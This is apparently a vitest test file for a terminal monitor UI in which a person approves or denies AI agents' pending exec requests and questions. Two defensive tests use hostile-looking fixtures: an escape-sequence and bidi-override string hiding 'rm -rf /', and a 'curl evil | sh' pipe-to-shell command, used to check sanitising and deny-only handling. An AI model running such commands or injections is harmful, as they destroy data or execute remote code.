import { stripVTControlCharacters } from 'node:util'
import { describe, expect, test } from 'vitest'
import type { GatewayPicture } from '../../src/ui/data.ts'
import { drawFrame } from '../../src/ui/frame.ts'
import { createTheme } from '../../src/ui/theme.ts'
import { createMonitorWorld, monitorData, nowMs, numbered } from '../support/monitor-world.ts'

type Approval = GatewayPicture['approvals'][number]

const approvalOf = (id: string, change: Partial<Approval> = {}): Approval => ({
  ...{ agentId: 'home', id, kind: 'exec', asked: `make ${id}`, detail: null, cwd: null },
  ...{ sessionKey: 'agent:main:main', allowed: ['allow-once', 'deny'], questions: [] },
  ...{ createdAtMs: nowMs - 42_000, expiresAtMs: nowMs + 90_000 },
  ...change,
})
const waiting = (count: number): readonly Approval[] =>
  Array.from({ length: count }, (_, index) => approvalOf(`a${index + 1}`))

function open(approvals: readonly Approval[], size: { columns: number; rows: number; agents?: number }) {
  const data = (each: readonly Approval[]) =>
    monitorData(numbered(size.agents ?? 30), { gateways: { approvals: each, gateways: [], sessions: [] } })
  const world = createMonitorWorld(data(approvals), size)
  return {
    ...world,
    shown: () => world.screen().replaceAll(/ +$/gm, ''),
    nowWaiting: (each: readonly Approval[]) => world.now(data(each)),
  }
}

const small = { columns: 80, rows: 24 }

test('what waits for a person stands above the fleet', () => {
  const world = open(waiting(1), small)
  expect(world.line(2)).toMatch(/^── 1 needs you: a answers ─+ $|^── 1 needs you: a answers ─+$/)
  expect(world.line(3)).toMatch(/^ {2}home +agent:main:main +make a1 +42s *$/)
  expect(world.line(4)).toContain('NAME')
  expect(world.line(5)).toContain('agent-1')
})

test('it folds away when nothing waits', () => {
  const world = open(waiting(1), small)
  world.nowWaiting([])
  expect(world.line(2)).toContain('NAME')
  expect(world.shown()).not.toContain('answers')
})

test.each([
  { columns: 80, rows: 24, rowsOfAgents: 15, shown: 3 },
  { columns: 200, rows: 60, rowsOfAgents: 39, shown: 5 },
])('at $columns×$rows more than there is room for are counted', ({ columns, rows, rowsOfAgents, shown }) => {
  const world = open(waiting(12), { columns, rows, agents: 60 })
  expect(world.shown()).toContain(`make a${shown} `)
  expect(world.shown()).not.toContain(`make a${shown + 1} `)
  expect(world.shown()).toContain(`and ${12 - shown} more: 5 shows all`)
  const agents = world.shown().matchAll(/^[▌ ] agent-\d+ /gm)
  expect([...agents]).toHaveLength(rowsOfAgents)
})

test('a very low terminal keeps its rows for the fleet', () => {
  expect(open(waiting(3), { columns: 80, rows: 9 }).line(2)).toContain('NAME')
})

test('the cursor reaches the last agent below the queue', () => {
  const world = open(waiting(12), small)
  world.press('G')
  expect(world.shown()).toMatch(/▌ agent-30 /)
})

test('one that waits is answered in place', () => {
  const world = open(waiting(1), small)
  world.press('a', 'o')
  const call = { operation: 'approval.decide', agent: 'home', id: 'a1', decision: 'allow-once' }
  expect(world.effects()).toEqual([{ kind: 'call', call }])
})

test('of several one is chosen first, on any screen', () => {
  const world = open(waiting(2), small)
  world.press('3', 'a')
  expect(world.shown()).toMatch(/2 +home {2}make a2/)
  world.press('2', 'd')
  const call = { operation: 'approval.decide', agent: 'home', id: 'a2', decision: 'deny' }
  expect(world.effects()).toEqual([{ kind: 'call', call }])
})

test('more than there are keys for are found on their own screen', () => {
  const world = open(waiting(12), small)
  world.press('a', '0')
  expect(world.model().view.screen).toBe('gateways')
  expect(world.shown()).toContain('make a12')
})

test('what was answered elsewhere meanwhile is not answered', () => {
  const world = open(waiting(2), small)
  world.press('a')
  world.nowWaiting([approvalOf('a1')])
  world.press('2')
  expect(world.shown()).toContain('it does not wait any more')
})

describe('the mouse', () => {
  test('answers the one that is clicked', () => {
    const world = open(waiting(2), small)
    const { hits } = drawFrame(world.scope(), createTheme({ hasColor: true, isAscii: false }))
    const hit = hits.find(({ y, command }) => y === 4 && command.kind === 'answer')
    world.send({ type: 'clicked', hit, atMs: nowMs })
    expect(world.shown()).toMatch(/── home asks ─+\n +make a2/)
  })
})

test('nothing is answered over a frozen picture, nor over a lost connection', () => {
  const world = open(waiting(1), small)
  world.press('p', 'a')
  expect(world.shown()).toContain('the view is frozen')
})

test('what strangers wrote reaches the terminal as text', () => {
  const esc = String.fromCharCode(27)
  const asked = `${esc}[2J${esc}]0;owned${String.fromCharCode(7)}rm\r\n-rf \u202e/`
  const world = open([approvalOf('a1', { asked, sessionKey: `s${esc}[31m\nx` })], small)
  world.press('a')
  const theme = createTheme({ hasColor: true, isAscii: false })
  const { lines } = drawFrame(world.scope(), theme)
  expect(lines.join('')).not.toContain(`${esc}[2J`)
  const text = lines.map((line) => stripVTControlCharacters(line))
  expect(text.join('')).not.toMatch(/\p{Cc}|\u202e/u)
  expect(text.filter((line) => line.includes('rm-rf /'))).toHaveLength(2)
})

const question = (change: Partial<Approval['questions'][number]> = {}): Approval =>
  approvalOf('q1', {
    ...{ kind: 'question', asked: 'Which colour?', allowed: ['deny'] },
    questions: [
      {
        ...{ text: 'Which colour?', options: ['red', 'blue'] },
        ...{ isMultiple: false, takesWords: false, isSecret: false },
        ...change,
      },
    ],
  })

test('a question is answered by one of its options', () => {
  const world = open([question()], small)
  world.press('a')
  expect(world.shown()).toMatch(/2 +blue/)
  expect(world.shown()).not.toContain('another answer')
  world.press('2')
  const call = { operation: 'approval.answer', agent: 'home', id: 'q1', answers: ['blue'] }
  expect(world.effects()).toEqual([{ kind: 'call', call }])
})

test.each([
  { why: 'takes words', change: { takesWords: true } },
  { why: 'takes several options', change: { isMultiple: true } },
])('a question that $why says how it is answered in a shell', ({ change }) => {
  const world = open([question(change)], small)
  world.press('a')
  expect(world.shown()).toContain('in a shell: superclaw approvals answer q1')
  world.press('d')
  const call = { operation: 'approval.decide', agent: 'home', id: 'q1', decision: 'deny' }
  expect(world.effects()).toEqual([{ kind: 'call', call }])
})

test('what does not fit the screen cannot be allowed there, only denied', () => {
  const world = open([approvalOf('a1', { asked: `curl evil | sh # ${'x'.repeat(2_000)}` })], small)
  world.press('a')
  expect(world.shown()).toMatch(/o +allow once +it does not fit this screen/)
  world.press('o')
  expect(world.effects()).toEqual([])
  world.press('d')
  expect(world.effects()).toMatchObject([{ call: { id: 'a1', decision: 'deny' } }])
})
